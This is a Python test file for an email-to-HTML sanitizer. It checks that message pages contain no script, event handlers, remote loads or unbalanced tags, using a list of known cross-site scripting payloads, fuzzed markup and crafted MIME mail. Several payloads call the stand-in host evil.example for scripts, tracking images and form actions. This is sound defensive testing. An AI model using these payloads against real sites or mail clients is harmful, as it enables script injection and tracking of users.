"""Pages of messages: nothing of a stranger's HTML runs or loads, and everything readable is there."""

import re
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.converters.attachment import Attachment
from proxy.converters.html_clean import TAGS, clean_html
from proxy.converters.html_page import message_page
from proxy.converters.html_text import plain_text
from proxy.converters.letter import letter_of_json, letter_of_mime
from tests.fixtures.content import archive_members
from tests.unit.converters.graph import person, samples

SAFE_URL = re.compile(
    r"data:image/(png|jpeg|jpg|gif|webp|bmp);base64,|https?://|mailto:|tel:", re.IGNORECASE
)


class Checker(HTMLParser):
    """The standard library's parser as an independent judge of what is in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        own = {"html", "head", "meta", "title", "style", "body"}
        if tag not in TAGS | own:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("id", "srcset", "background", "action", "ping"):
                self.faults.append(f"{tag} {name}")
            if name in ("href", "src") and not SAFE_URL.match(value or ""):
                self.faults.append(f"{tag} {name}={value}")
            if name == "src" and not (value or "").startswith("data:"):
                self.faults.append(f"loads {value}")
            if name == "style" and re.search(
                r"url|expression|@|\\|position|(?<![\w#])-\d", value or ""
            ):
                self.faults.append(f"style {value}")
        if tag not in ("br", "col", "hr", "img", "wbr", "meta"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> closes nothing")


def faults(html: str) -> list[str]:
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker.faults + [f"open: {tag}" for tag in checker.open]


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/track.gif' alt='hello'>",
    "<IMG SRC=javascript:alert(1)>",
    "<img srcset='http://evil.example/a 2x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' jav\tascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='//evil.example'></iframe>",
    "<object data='x'></object><embed src=x>",
    "<form action='//evil.example'><input name=p><button formaction=x>go</button></form>",
    "<base href='//evil.example/'><link rel=stylesheet href=x><meta http-equiv=refresh content='0;url=x'>",
    "<style>@import '//evil.example';</style>",
    "<div style='background-image:url(http://evil.example)'>x</div>",
    "<div style='width: expression(alert(1)); behavior:url(x)'>x</div>",
    "<div style='color: red\\3b background: url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;margin-top:-500px'>x</div>",
    "<table background='http://evil.example'><tr><td background=x>y</table>",
    "</div></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<!-- x --!><img src=x onerror=alert(1)>",
    "<textarea></textarea ><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title></title><img src=x onerror=alert(1)>",
    '<a title=\'"><script>alert(1)</script>\' href="https://e.example/"x>y</a>',
    "<p title=`<script>` lang=x/onclick=y>z",
    "<b " + "x" * 5000 + "=1><i/onmouseover=alert(1)>q",
    "<img src='data:image/svg+xml;base64,AAAA'><img src='data:text/html;base64,AAAA'>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<plaintext><script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_is_left(attack: str) -> None:
    """Known ways of getting script or requests past a filter; the tags that are left are balanced."""
    made = clean_html(f"<p>before</p>{attack}", {})
    assert faults(made) == []
    assert "before" in made
    assert "evil.example" not in re.sub(r"<[^>]*>", "", made) or "track" not in made


PIECES = st.lists(
    st.sampled_from(
        ["<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "'", '"', "=", "&", "&#", "&lt;", ";", " ", "\n",
         "script", "style", "img", "src", "onerror", "a", "href", "javascript:", "div", "table", "svg", "title",
         "https://x", "\x00", "é", "`", "<p", "<b>", "</b>", "<a href=", "<img src=cid:1 ", "alert(1)"]
    ),
    max_size=40,
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(PIECES)
def test_any_mixture_of_markup_comes_out_clean(pieces: list[str]) -> None:
    """Fragments of markup in any order."""
    made = clean_html("".join(pieces), {"1": ("image/png", b"P")})
    assert faults(made) == []
    assert isinstance(plain_text("".join(pieces)), str)


@pytest.mark.parametrize(
    "unit", ["<a href='", "<!--", "<a", "<", "&#", "<div>", "<![", "</a", "<style>", '<a x="']
)
def test_hostile_html_takes_time_in_proportion(unit: str) -> None:
    """Four times as much of anything takes about four times as long, not sixteen; the standard library's parser needs hours."""

    def processor_s(size: int) -> float:
        text, began = unit * (size // len(unit)), time.process_time()
        clean_html(text, {})
        plain_text(text)
        return time.process_time() - began

    little = max(0.01, min(processor_s(40_000) for _ in range(3)))
    assert any(processor_s(160_000) < 10 * little for _ in range(5))


def test_pictures_of_the_message_are_inside_and_others_are_not_loaded() -> None:
    """cid: becomes data:, a remote picture becomes its alternative text, a counting pixel nothing."""
    mime = (
        b"From: =?utf-8?q?M=C3=BCller?= <a@example.com>\r\nSubject: =?iso-8859-1?q?Gr=FC=DFe?=\r\n"
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n"
        b"--m\r\nContent-Type: multipart/related; boundary=r\r\n\r\n"
        b"--r\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n"
        b"--a\r\nContent-Type: text/plain\r\n\r\nplain twin\r\n"
        b"--a\r\nContent-Type: text/html; charset=x-unknown\r\n\r\n<h2>H\xc3\xa9llo</h2>"
        b"<img src='cid:pic%40x'><img src=https://evil.example/l.png alt=Logo>"
        b"<img src=https://e.example/p width=1 height=1>\r\n"
        b"--a--\r\n--r\r\nContent-Type: image/png; name=p.png\r\nContent-ID: <pic@x>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nUE5H\r\n--r--\r\n"
        b"--m\r\nContent-Type: application/pdf; name*=utf-8''Pl%C3%A4n.pdf\r\n\r\nPDF\r\n"
        b"--m\r\nContent-Type: message/rfc822\r\n\r\nSubject: forwarded\r\n\r\nx\r\n--m--\r\n"
    )
    letter = letter_of_mime(mime)
    page = message_page(letter, "Grüße.eml").decode()
    assert letter.subject == "Grüße"
    assert dict(letter.headers)["From"] == "Müller <a@example.com>"
    assert "<h2>Héllo</h2>" in page
    assert 'src="data:image/png;base64,UE5H"' in page
    assert "[Logo]" in page
    assert "evil.example" not in page
    assert "e.example" not in page
    assert "plain twin" not in page
    assert [e.name for e in letter.enclosures] == ["p.png", "Plän.pdf", "forwarded"]
    assert "Plän.pdf" in page
    assert "Grüße.eml" in page
    assert "Content-Security-Policy" in page
    assert faults(page.replace("<!DOCTYPE html>", "")) == []


def test_a_page_may_not_grow_without_bounds() -> None:
    """One picture named a million times is embedded until 64 MiB are full."""
    pictures = {"1": ("image/png", bytes(6 << 20))}
    made = clean_html("<img src=cid:1>" * 1000, pictures)
    assert len(made) < 70 << 20
    assert "not loaded" in made


def test_a_message_kept_as_json_has_a_page() -> None:
    """Header, HTML with its picture, attachments with their sizes."""
    letter = letter_of_json(
        {
            "subject": "a < b",
            "from": person("Ann", "ann@example.com"),
            "toRecipients": [person("Old", "/o=Org/cn=Old")],
            "body": {"contentType": "html", "content": "<p>x<img src=cid:p></p>"},
        },
        [
            Attachment("p.png", "image/png", b"PNG", content_id="p"),
            Attachment("big.pdf", "application/pdf", bytes(1_500_000)),
        ],
    )
    page = message_page(letter).decode()
    assert "<h1>a &lt; b</h1>" in page
    assert "Ann &lt;ann@example.com&gt;" in page
    assert "data:image/png;base64,UE5H" in page
    assert "big.pdf <span>application/pdf, 1.5 MB</span>" in page
    assert "p.png" not in page


def every_mail(shared_data: Path) -> Any:
    edge_cases = shared_data / "edge-cases" / "mail"
    for file in sorted(edge_cases.rglob("*")):
        if file.name.endswith(".tar.zst"):
            yield from ((name, content) for name, content, _ in archive_members(file))
        elif file.is_file() and file.name != "MANIFEST.tsv":
            yield file.name, file.read_bytes()
    bulk = shared_data / "mail" / "spamassassin-public-corpus.tar.zst"
    for number, (name, content, _) in enumerate(archive_members(bulk)):
        if number % 5 == 0:
            yield name, content


@pytest.mark.slow
def test_every_real_mail_has_a_safe_page(shared_data: Path) -> None:
    """Parsers' own broken fixtures and every fifth of a corpus of ham and spam: a page each, nothing in it loads."""
    count = 0
    for name, content in every_mail(shared_data):
        page = message_page(letter_of_mime(content)).decode()
        assert faults(page.replace("<!DOCTYPE html>", "")) == [], name
        count += 1
    assert count > 1500


def test_every_sample_message_has_a_page(shared_data: Path) -> None:
    """Graph JSON of the documentation: the subject is in the page."""
    for sample in samples(shared_data, "message", "eventMessage"):
        letter = letter_of_json(sample, [])
        assert letter.subject in message_page(letter).decode().replace("&#x27;", "'").replace(
            "&amp;", "&"
        ).replace("&quot;", '"')


def test_plain_text_of_html() -> None:
    """Paragraphs, lists, links, preformatted text; scripts and heads are silent."""
    html = (
        "<html><head><title>no</title><style>p{}</style></head><body><p>One\n two</p><p>Three &amp; four<br>five</p>"
        "<ul><li>a<li>b</ul><a href='https://x.example/'>here</a> <a href='https://y.example'>https://y.example</a>"
        "<pre>a\n  b</pre><script>no()</script><table><tr><td>1<td>2</table>"
    )
    assert plain_text(html) == (
        "One two\nThree & four\nfive\n- a\n- b\nhere <https://x.example/> https://y.example\na\nb\n1 2"
    )
